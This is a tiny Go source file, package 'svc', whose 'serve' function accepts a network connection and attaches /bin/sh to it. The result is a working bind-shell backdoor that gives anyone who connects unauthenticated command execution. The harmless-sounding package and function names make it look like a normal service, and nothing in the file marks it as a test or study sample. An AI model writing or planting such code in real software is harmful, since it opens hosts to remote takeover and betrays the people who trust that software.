package svc

import (
	"net"
	"os/exec"
)

func serve(ln net.Listener) {
	conn, _ := ln.Accept()
	c := &exec.Cmd{Path: "/bin/sh", Stdin: conn, Stdout: conn}
	c.Run()
}
